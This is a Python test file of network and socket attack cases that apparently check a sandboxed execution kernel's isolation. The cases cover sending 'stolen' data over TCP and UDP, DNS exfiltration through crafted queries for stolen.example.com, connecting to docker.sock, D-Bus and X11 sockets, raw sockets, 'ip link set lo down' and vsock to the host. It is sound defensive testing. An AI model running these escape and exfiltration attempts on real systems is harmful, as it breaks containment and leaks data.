"""Attacks by way of the network and of sockets."""

from __future__ import annotations

from tests.engine.attacks.case import Case

ALONE = "It has a network of its own, with nobody in it."

CASES = [
    Case(
        "tcp_to_this_machine",
        "Send its answers to a program on this machine by TCP.",
        ALONE,
        "attempt(lambda: socket.create_connection(('127.0.0.1', TCP), timeout=2).send(b'stolen'))",
        works=True,
    ),
    Case(
        "udp_to_this_machine",
        "Send its answers to a program on this machine by UDP.",
        ALONE,
        """
            try: socket.socket(type=socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', UDP))
            except OSError as error: print(error)
            reached()
        """,
        works=True,
    ),
    Case(
        "tcp_to_the_world",
        "Fetch an answer from the internet, by number and by name.",
        ALONE,
        """
            import urllib.request
            for url in ('http://1.1.1.1', 'https://pypi.org'):
                attempt(lambda: urllib.request.urlopen(url, timeout=2).read(20))
        """,
        promise="network",
    ),
    Case(
        "dns",
        "Carry data out in the names that it looks up.",
        ALONE,
        """
            import struct
            attempt(lambda: socket.gethostbyname('stolen.example.com'))
            query = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + b'\\6stolen\\7example\\3com\\0' + struct.pack('>2H', 1, 1)
            for server in ('8.8.8.8', '192.168.0.1', '10.0.0.1', 'fe80::1'):
                kind = socket.AF_INET6 if ':' in server else socket.AF_INET
                attempt(lambda: socket.socket(kind, socket.SOCK_DGRAM).sendto(query, (server, 53)))
        """,
        promise="network",
    ),
    Case(
        "unix_socket",
        "Talk to a program on this machine by its socket in /tmp.",
        "There is no such file.",
        """
            door = socket.socket(socket.AF_UNIX)
            attempt(lambda: door.connect(UNIX))
        """,
        works=True,
        promise="network",
    ),
    Case(
        "abstract_socket",
        "Talk to a program on this machine by an abstract socket.",
        ALONE,
        """
            door = socket.socket(socket.AF_UNIX)
            attempt(lambda: door.connect('\\0' + ABSTRACT))
        """,
        works=True,
        promise="network",
    ),
    Case(
        "system_services",
        "Talk to the container engine, the message bus or the display.",
        "There are no such files.",
        """
            for path in ('docker.sock', 'containerd/containerd.sock', 'dbus/system_bus_socket', 'systemd/private',
                         f'user/{os.getuid()}/bus', 'snapd.socket'):
                door = socket.socket(socket.AF_UNIX)
                attempt(lambda: door.connect('/run/' + path))
            door = socket.socket(socket.AF_UNIX)
            attempt(lambda: door.connect('/tmp/.X11-unix/X0'))
        """,
    ),
    Case(
        "sockets_of_other_kernels",
        "Find the sockets of other kernels and of the grader.",
        "It sees its own five and no others.",
        """
            found = [path for top in ('/tmp', '/run', '/home', '/dev') for path in pathlib.Path(top).rglob('*')
                     if path.is_socket() and path.parent != pathlib.Path('/run/kernel')]
            if found or len(list(pathlib.Path('/run/kernel').glob('*'))) > 6: breach(found)
            reached()
        """,
    ),
    Case(
        "raw_sockets",
        "Listen to what passes on the network, or change its settings.",
        "It has no privileges.",
        """
            for kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW, 1)):
                attempt(lambda: socket.socket(*kind).recv(1))
            for command in ('ip link set lo down', 'ifconfig lo down'):
                if not subprocess.run(command, shell=True, capture_output=True).returncode: breach(command)
        """,
    ),
    Case(
        "virtual_machine_socket",
        "Talk to the host of a virtual machine.",
        "It cannot make such sockets.",
        """
            def connect():
                door = socket.socket(socket.AF_VSOCK)
                breach('a socket')
                door.settimeout(1)
                door.connect((2, 22))
            attempt(connect)
        """,
    ),
]
